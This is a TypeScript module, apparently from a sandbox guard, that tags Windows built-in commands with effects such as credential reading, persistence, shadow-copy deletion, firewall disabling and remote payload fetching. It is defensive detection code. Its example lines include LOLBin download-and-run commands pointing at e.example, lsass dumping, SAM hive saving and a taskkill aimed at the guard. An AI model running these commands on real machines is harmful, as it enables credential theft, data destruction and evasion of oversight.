import type { EffectKind, Target } from '../../../protocol/evidence.ts'
import { hostOf, isUrl } from '../places/hosts.ts'
import { windowsPath } from '../powershell/windows-path.ts'
import { visible } from '../values/field.ts'
import { NO_FLOW, type Value, unknown } from '../values/value.ts'
import type { Call, CommandRow, Example } from '../engine/call.ts'

/** When a program of Windows does something: its arguments, in lower case and joined by spaces, fit the pattern. */
interface WindowsRow {
  readonly names: readonly string[]
  readonly does: readonly (readonly [when: RegExp, ...kinds: EffectKind[]])[]
  readonly examples: readonly Example[]
}

const ROWS: readonly WindowsRow[] = [
  {
    names: ['reg'],
    does: [
      [/^save .*(?:\\sam|\\security|\\system)\b/, 'secret.read'],
      [
        /^(?:add|import|copy|restore|load) .*\\(?:run(?:once)?|winlogon|image file execution options|services)\b/,
        'persistence',
      ],
      [/^(?:add|delete|import|copy|restore|load|unload)\b/, 'service.change'],
    ],
    examples: [
      [
        "reg add 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' /v a /d x.exe",
        'persistence+unseen service.change',
      ],
      ["reg save 'HKLM\\SAM' sam.hiv", 'secret.read'],
      ["reg query 'HKLM\\Software'"],
    ],
  },
  {
    names: ['schtasks'],
    does: [
      [/\/create\b/, 'persistence'],
      [/\/(?:delete|change|end)\b/, 'service.change'],
    ],
    examples: [['schtasks /create /tn a /tr x.exe /sc onlogon', 'persistence+unseen'], ['schtasks /query']],
  },
  {
    names: ['vssadmin', 'wbadmin', 'diskshadow'],
    does: [[/\bdelete\b|\bresize shadowstorage\b/, 'device.write']],
    examples: [['vssadmin delete shadows /all /quiet', 'device.write'], ['vssadmin list shadows']],
  },
  { names: ['cipher'], does: [[/\/w\b/, 'device.write']], examples: [['cipher /w:C', 'device.write'], ['cipher']] },
  {
    names: ['bcdedit', 'bootrec'],
    does: [[/\/(?:set|delete|import|create|fixmbr|fixboot)\b/, 'device.write']],
    examples: [['bcdedit /set recoveryenabled no', 'device.write'], ['bcdedit /enum']],
  },
  { names: ['diskpart'], does: [[/^/, 'device.write']], examples: [['diskpart /s a.txt', 'device.write']] },
  {
    names: ['wevtutil'],
    does: [[/^(?:cl|clear-log)\b/, 'service.change']],
    examples: [['wevtutil cl System', 'service.change'], ['wevtutil el']],
  },
  {
    names: ['wmic'],
    does: [
      [/\bshadowcopy\b.*\bdelete\b/, 'device.write'],
      [/\bprocess\b.*\bcall create\b/, 'exec.run', 'unresolved'],
      [/\bdelete\b|\bterminate\b/, 'process.kill'],
    ],
    examples: [['wmic shadowcopy delete', 'device.write', 'process.kill'], ['wmic os get caption']],
  },
  {
    names: ['net', 'net1'],
    does: [
      [/^(?:user|localgroup|group) .*\/(?:add|delete|active)\b|^user \S+ \S+/, 'privilege.raise'],
      [/^(?:stop|start|share)\b/, 'service.change'],
    ],
    examples: [['net user me pw /add', 'privilege.raise'], ['net view']],
  },
  {
    names: ['takeown', 'icacls', 'cacls'],
    does: [[/^(?=.*(?:\/f|\/grant|\/reset|\/setowner|\/remove|\/deny))/, 'privilege.raise']],
    examples: [['takeown /f C:/Windows /r', 'privilege.raise']],
  },
  { names: ['cmdkey', 'vaultcmd'], does: [[/\/list\b/, 'secret.read']], examples: [['cmdkey /list', 'secret.read']] },
  {
    names: ['netsh'],
    does: [
      [/\bkey=clear\b/, 'secret.read'],
      [/\badvfirewall\b.*\b(?:state off|reset)\b|\bfirewall set opmode\b.*\bdisable\b/, 'protection.off'],
      [/\b(?:set|add|delete|reset)\b/, 'service.change'],
    ],
    examples: [
      ['netsh advfirewall set allprofiles state off', 'protection.off', 'service.change'],
      ['netsh wlan show profile x key=clear', 'secret.read'],
      ['netsh wlan show profiles'],
    ],
  },
  {
    names: ['procdump', 'mimikatz', 'ntdsutil', 'pypykatz'],
    does: [[/^/, 'secret.read']],
    examples: [['procdump -ma lsass.exe', 'secret.read']],
  },
]

const emitRow = (row: WindowsRow, call: Call): void => {
  const text = call.args.map((field) => visible(field).toLowerCase()).join(' ')
  const target: readonly Target[] = [{ type: 'resource', name: `${call.name} ${text.slice(0, 60)}`.trim() }]
  const unknownTarget: readonly Target[] = [{ type: 'unknown', raw: call.name }]
  for (const [when, ...kinds] of row.does)
    if (when.test(text))
      for (const kind of kinds)
        call.emit(kind, kind === 'exec.run' || kind === 'unresolved' ? unknownTarget : target, {
          // The program that would be started is not looked for.
          traits: kind === 'persistence' ? ['unseen'] : [],
        })
}

const urlsOf = (call: Call): readonly Target[] =>
  call.args.flatMap((field) => {
    const url = /https?:\/\/[^\s"',;)]+/i.exec(visible(field))?.[0]
    const host = url !== undefined && isUrl(url) ? hostOf(url) : undefined
    return host ? [host] : []
  })

/** Downloads an address into a file. */
const download = (call: Call): Value => {
  const hosts = urlsOf(call)
  if (hosts.length > 0) call.emit('net.fetch', hosts)
  const into = call.args
    .map(visible)
    .filter((text) => !/^[-/]|:\/\//.test(text))
    .at(-1)
  if (hosts.length > 0 && into !== undefined)
    call.emit('fs.write', [windowsPath(into, call.engine, 'content')], { traits: ['from-network'] })
  return unknown({ ...NO_FLOW, network: true })
}

/** Runs code that it is given by its address, or in its arguments. */
const runsGiven = (call: Call): void => {
  const hosts = urlsOf(call)
  if (hosts.length > 0) {
    call.emit('net.fetch', hosts)
    call.emit('exec.remote', [{ type: 'command', name: call.name }])
    return
  }
  const [first] = call.args
  if (first === undefined) return
  if (/^(?:java|vb)script:|,|\/i:/i.test(visible(first))) {
    call.emit('exec.run', [{ type: 'unknown', raw: visible(first) }])
    call.unresolved(call.name)
  } else call.runFile(first, 'unknown', call.args.slice(1))
}

/** Programs that come with Windows. */
export const WINDOWS_COMMANDS: readonly CommandRow[] = [
  ...ROWS.map((row): CommandRow => ({ names: row.names, run: (call) => emitRow(row, call), examples: row.examples })),
  {
    names: ['certutil', 'bitsadmin', 'desktopimgdownldr', 'esentutl'],
    run: (call) => {
      if (call.name === 'certutil' && call.args.some((field) => /^[-/]decode/i.test(visible(field)))) {
        const into = call.args.at(-1)
        if (into) call.write([into], unknown({ ...NO_FLOW, decoded: true }))
        return undefined
      }
      return download(call)
    },
    examples: [
      ['certutil -urlcache -split -f https://e.example/a.exe a.exe', 'net.fetch', 'fs.write+from-network@workspace'],
      ['bitsadmin /transfer j https://e.example/a.exe a.exe', 'net.fetch', 'fs.write+from-network@workspace'],
      ['certutil -decode a.txt a.exe', 'fs.write@workspace'],
      ['certutil -hashfile a.exe SHA256'],
    ],
  },
  {
    names: ['mshta', 'rundll32', 'regsvr32', 'cscript', 'wscript', 'msiexec', 'installutil', 'msbuild', 'hh'],
    run: runsGiven,
    examples: [
      ['mshta https://e.example/a.hta', 'net.fetch', 'exec.remote'],
      ['rundll32 javascript:a', 'exec.run@unresolved', 'unresolved@unresolved'],
      ['regsvr32 /s /u /i:https://e.example/a.sct scrobj.dll', 'net.fetch', 'exec.remote'],
      ['cscript a.vbs', 'exec.run+script@workspace'],
    ],
  },
  {
    names: ['taskkill', 'tskill'],
    run: (call) => {
      const words = call.args.map(visible)
      call.emit(
        'process.kill',
        words.filter((word) => !word.startsWith('/')).map((name) => ({ type: 'resource', name })),
      )
      if (
        words.some(
          (word) => /sallyport|^node(?:\.exe)?$|[*?]/i.test(word) || call.engine.guard.program.isPid(Number(word)),
        )
      )
        call.emit('guard.tamper', [{ type: 'resource', name: words.join(' ') }])
    },
    examples: [
      ['taskkill /F /IM vite.exe', 'process.kill'],
      ['taskkill /F /IM node.exe', 'process.kill', 'guard.tamper'],
    ],
  },
]
